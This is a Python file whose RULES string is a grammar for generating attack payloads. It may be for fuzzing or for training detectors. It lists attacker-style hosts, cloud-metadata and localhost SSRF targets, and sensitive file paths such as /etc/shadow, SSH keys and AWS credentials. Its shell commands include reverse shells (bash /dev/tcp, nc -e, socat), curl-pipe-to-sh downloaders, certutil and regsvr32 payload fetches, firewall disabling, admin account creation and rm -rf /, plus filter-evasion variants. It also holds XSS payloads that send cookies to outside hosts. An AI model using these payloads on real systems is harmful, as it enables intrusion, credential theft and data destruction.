"""What attacks of several types share: victims' words, attackers' hosts, commands, files."""

RULES = r"""
word = user item page data list name test key foo value doc report client view order cart admin
w = «word» «word» «lower(3-8)» «lower(2-5)»«digit(1-3)»
n = 1 0 2 7 42 100 1337 9999 -1 «digit(1)» «digit(2-3)» «digit(4-6)»
nz = 1 2 3 4 5 6 7 8 9
ip = 203.0.113.«digit(1-2)» 198.51.100.«digit(1-2)» 45.«digit(1-2)».«digit(1-2)».«digit(1-2)»
tld = com net org ru io xyz test example invalid top info
host = «ip» «ip» «w».«tld» «w».«tld» «w».«w».«tld» evil.«tld» attacker.«tld» «lowdigit(9-24)».oast.«tld» «w».burpcollaborator.net «w».interact.sh «ip»:8080 «w».«tld»:«digit(4)»
inner = 127.0.0.1 localhost 169.254.169.254 10.0.0.1 192.168.«digit(1)».«digit(1-2)» [::1] 0.0.0.0 2130706433 metadata.google.internal 127.1 0x7f000001 0177.0.0.1 0x7f.0x0.0x0.0x1 2852039166 0xa9fea9fe 0251.0376.0251.0376 [::ffff:127.0.0.1] [::ffff:a9fe:a9fe] [0:0:0:0:0:0:0:1] 100.100.100.200 172.16.0.«digit(1)» localtest.me 127.0.0.1.nip.io 0 017700000001 169.254.169.254.xip.io instance-data
port = 22 25 80 443 2375 3306 5984 6379 8000 8080 8500 9000 9200 10250 11211
bin = /bin/ /usr/bin/ /usr/local/bin/
nixfile = etc/passwd etc/passwd etc/passwd etc/shadow etc/hosts etc/group etc/issue etc/hostname etc/fstab etc/crontab etc/mysql/my.cnf etc/nginx/nginx.conf etc/apache2/apache2.conf etc/ssh/sshd_config proc/self/environ proc/self/cmdline proc/version proc/self/fd/«nz» var/log/apache2/access.log var/log/auth.log var/log/nginx/error.log var/mail/www-data root/.ssh/id_rsa root/.bash_history home/«w»/.ssh/id_rsa home/«w»/.bashrc var/www/html/config.php var/www/html/wp-config.php usr/local/apache2/conf/httpd.conf var/run/secrets/kubernetes.io/serviceaccount/token
winfile = windows/win.ini winnt/win.ini boot.ini windows/system32/drivers/etc/hosts windows/system32/config/sam inetpub/wwwroot/web.config windows/system.ini windows\win.ini windows\system32\cmd.exe autoexec.bat
appfile = web-inf/web.xml WEB-INF/web.xml WEB-INF/classes/application.properties .env .git/config .htaccess .htpasswd config.php wp-config.php web.config application.yml settings.py config/database.yml META-INF/MANIFEST.MF .aws/credentials index.php package.json
file = «nixfile» «nixfile» «nixfile» «winfile» «appfile»
cmd:
  id
  whoami
  uname -a
  cat /etc/passwd
  cat /«nixfile»
  ls -la
  ls -la /
  ls
  pwd
  ps aux
  ifconfig
  netstat -an
  env
  printenv
  ping -c «nz» «host»
  ping -n «nz» 127.0.0.1
  sleep «nz»
  sleep 10
  curl http://«host»/«w»
  curl -s «host»/«w».sh | sh
  curl `whoami`.«host»
  wget http://«host»/«w».sh
  wget -qO- http://«host»/«w».sh|sh
  cd /tmp; wget http://«host»/«w»; chmod 777 «w»; ./«w»
  nc «host» 4444 -e /bin/sh
  nc -lvp 4444
  bash -i >& /dev/tcp/«host»/80 0>&1
  bash -c 'bash -i >& /dev/tcp/«host»/4444 0>&1'
  python -c 'import socket,subprocess,os;s=socket.socket()'
  perl -e 'print "«w»"'
  php -r 'phpinfo();'
  echo «w»
  echo «w» > /tmp/«w»
  echo «alnum(16)» | base64 -d | sh
  nslookup «host»
  dig «host»
  host «host»
  netsh firewall set opmode disable
  netsh advfirewall set allprofiles state off
  net user «w» «w» /ADD
  net localgroup Administrators «w» /add
  net start «w»
  reg add "HKLM\System\CurrentControlSet\Control\«w»" /v «w» /t REG_DWORD /d 0 /f
  reg query HKLM\SOFTWARE
  del «w».txt
  del /q «w»
  rem «w»
  rm «w»
  taskkill /f /im «w».exe
  tasklist
  wmic process list
  copy «w».txt «w».php
  bitsadmin /transfer «w» http://«host»/«w».exe %TEMP%\«w».exe
  mshta http://«host»/«w».hta
  rundll32 \«ip»\«w»\«w».dll,0
  regsvr32 /s /u /i:http://«host»/«w».sct scrobj.dll
  ping -w «digit(4)» -n 1 «ip»
  ping -w «digit(4)» -n 1 «ip»|rem
  ping -i 30 127.0.0.1
  git clone http://«host»/«w».git
  uname >«w»
  id > /var/www/«w».txt
  echo «n» >> /etc/«w»
  apt-get install «w»
  crontab -l
  socat tcp:«host»:«digit(4)» exec:/bin/sh
  ruby -rsocket -e 'exit if fork'
  ssh «w»@«host»
  lsof -i
  mail «w»@«host» < /etc/passwd
  dir
  dir c:\
  type c:\windows\win.ini
  type %SYSTEMROOT%\win.ini
  net user
  ipconfig /all
  systeminfo
  cmd /c dir
  cmd.exe /c whoami
  powershell -c "iwr http://«host»/«w».ps1"
  powershell -enc «alnum(24)»
  certutil -urlcache -f http://«host»/«w».exe «w».exe
  rm -rf /
  rm -rf /tmp/*
  touch /tmp/«w»
  «bin»id
  «bin»cat /etc/passwd
  /???/??t /???/p??s??
  c\at /e\tc/pa\sswd
  c''at /etc/pass''wd
  w"h"oami
  cat$IFS/etc/passwd
  cat${IFS}/etc/passwd
  {cat,/etc/passwd}
  cat</etc/passwd
  tail -n 5 /etc/passwd
  head /etc/shadow
  find / -name «w»
  grep root /etc/passwd
  awk '{print $1}' /etc/passwd
  xxd /etc/passwd
  more /etc/hosts
  kill -9 «digit(4)»
  useradd «w»
  chmod +x «w»
  busybox wget http://«host»/«w»
  tftp -g -r «w» «ip»
  set /a «n»*«n»
  expr «n» + «n»
  print «n»
js:
  alert(«n»)
  alert(«n»)
  alert('«w»')
  alert("«w»")
  alert`«n»`
  alert(document.cookie)
  alert(document.domain)
  alert(String.fromCharCode(88,83,83))
  alert(/«w»/)
  confirm(«n»)
  confirm`«n»`
  confirm()
  prompt(«n»)
  prompt()
  print()
  eval(name)
  eval(atob('«alnum(12)»'))
  eval(location.hash.slice(1))
  window['alert'](«n»)
  top['al'+'ert'](«n»)
  self[`al`+`ert`](«n»)
  (alert)(«n»)
  a=alert,a(«n»)
  [«n»].find(alert)
  window.location='//«host»/'+document.cookie
  document.location='http://«host»/?c='+document.cookie
  fetch('//«host»/'+document.cookie)
  fetch(`https://«host»`)
  new Image().src='//«host»/?'+document.cookie
  document.write('<script src=//«host»></script>')
  import('//«host»/«w».js')
  $.getScript('//«host»')
  setTimeout('alert(«n»)')
  Function('alert(«n»)')()
  throw onerror=alert,«n»
  javascript:alert(«n»)
  console.log(document.cookie)
  al\u0065rt(«n»)
  \u0061lert(«n»)
  document['cookie']
  constructor.constructor('alert(«n»)')()
"""
